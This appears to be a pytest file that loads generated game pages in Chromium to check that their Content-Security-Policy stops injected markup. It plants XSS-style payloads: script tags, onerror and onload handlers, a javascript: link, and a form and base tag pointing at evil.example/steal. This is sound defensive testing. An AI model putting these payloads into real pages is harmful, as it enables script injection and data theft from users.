"""The pages' Content-Security-Policy in a real Chromium: should escaping ever
slip and markup reach a page, nothing of it runs, submits or moves the page.

Markup of each kind an attacker would try is planted in pages written by
the commands (and in a notebook's frame), as though a name had reached the
page raw. The page's own script and style, which the policy knows by their
hashes, still work; the planted ones do nothing at all.
"""

from __future__ import annotations

import typing as t
from pathlib import Path

import pytest

from aces.page.html import render, render_simulation

from browser import visit
from clitest import run

if t.TYPE_CHECKING:
    from playwright.sync_api import Browser

REPLAYS = Path(__file__).resolve().parents[2] / "replays"

#: Markup an attacker would plant, each leaving a mark on the page if it ran.
PLANTED: t.Final = (
    '<script>document.documentElement.dataset.pwned = "script"</script>'
    '<img src="x.png" onerror="document.documentElement.dataset.pwned = \'handler\'">'
    '<svg onload="document.documentElement.dataset.pwned = \'svg\'"></svg>'
    '<a id="planted-link" href="javascript:document.documentElement.dataset.pwned=\'link\'">'
    "a link</a>"
    '<form id="planted-form" action="https://evil.example/steal" method="get">'
    '<input name="q" value="secret"></form>'
    '<base href="https://evil.example/">'
    "<style>body { background: rgb(255, 0, 0) !important }</style>"
)


def planted(page: str) -> str:
    """The page with :data:`PLANTED` where a name would stand: first in its body."""
    assert page.count("<body>\n") == 1
    return page.replace("<body>\n", "<body>\n" + PLANTED, 1)


def pages(folder: Path) -> dict[str, Path]:
    written = {}
    for kind, args in (("replay", ["replay", str(REPLAYS / "four-players.jsonl")]),
                       ("simulate", ["simulate", "--players", "3"])):
        page = folder / f"{kind}.html"
        result = run(*args, "--html", str(page))
        assert result.exit_code == 0, result.output
        page.write_text(planted(page.read_text(encoding="utf-8")), encoding="utf-8")
        written[kind] = page
    return written


@pytest.mark.parametrize("kind", ["replay", "simulate"])
def test_planted_markup_runs_nothing_and_the_page_still_works(
        browser: Browser, tmp_path: Path, kind: str) -> None:
    page = pages(tmp_path)[kind]
    opened = visit(browser, page)  # the page's own script ran: it marked the body ready
    view = opened.page
    view.click("#planted-link")
    view.evaluate("document.getElementById('planted-form').requestSubmit()")
    view.wait_for_timeout(300)
    assert view.evaluate("document.documentElement.dataset.pwned") is None
    assert opened.dialogs == []
    # Nothing went to another host: the form and the base were refused; the image,
    # which Chromium's preload scanner may ask for ahead of the parser, too.
    assert [url for url in opened.requests if not url.endswith("/x.png")] == []
    assert any("Loading the image" in error for error in opened.errors)
    # The page is where it was (its own script writes the roll into the fragment).
    assert view.evaluate("document.baseURI").split("#")[0] == opened.url
    assert view.url.split("#")[0] == opened.url
    # The page's own style applies; the planted one does not.
    assert view.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert view.evaluate("getComputedStyle(document.body).fontFamily") != "Times New Roman"
    assert any("Content Security Policy" in error for error in opened.errors)


def test_the_page_in_a_notebook_frame_is_held_the_same(browser: Browser,
                                                       tmp_path: Path) -> None:
    """A notebook shows the page in an ``<iframe srcdoc>``, whose base is set to
    ``about:srcdoc`` (so its own links stay in it): that base, and no other."""
    import aces
    from aces.notebook import frame

    game = aces.play(["Ada", "Bo", "Cy"], seed=3)
    data = game._page_data("en")
    outer = tmp_path / "notebook.html"
    # The notebook itself is ready at once; the page in its frame says when it is.
    outer.write_text("<!DOCTYPE html><html lang='en'><head><title>notebook</title></head>"
                     f"<body data-ready>{frame(planted(render(data, srcdoc=True)), 'game')}"
                     "</body></html>", encoding="utf-8")
    opened = visit(browser, outer)
    inner = opened.page.frames[1]
    inner.wait_for_selector("body[data-ready]")
    inner.click("#planted-link")
    inner.evaluate("document.getElementById('planted-form').requestSubmit()")
    opened.page.wait_for_timeout(300)
    assert inner.evaluate("document.documentElement.dataset.pwned") is None
    assert inner.evaluate("document.baseURI") == "about:srcdoc"
    assert [url for url in opened.requests if not url.endswith("/x.png")] == []
    # The page's own links stay in the frame.
    assert inner.evaluate("document.querySelector('ol.rolls a').href").startswith(
        "about:srcdoc#")


def test_a_simulation_page_is_held_by_the_same_policy() -> None:
    from aces.page.simulation import collect

    text = render_simulation(collect(3, 2, "last-chip", "en"))
    assert "form-action 'none'; base-uri 'none'" in text
    assert "unsafe-inline" not in text
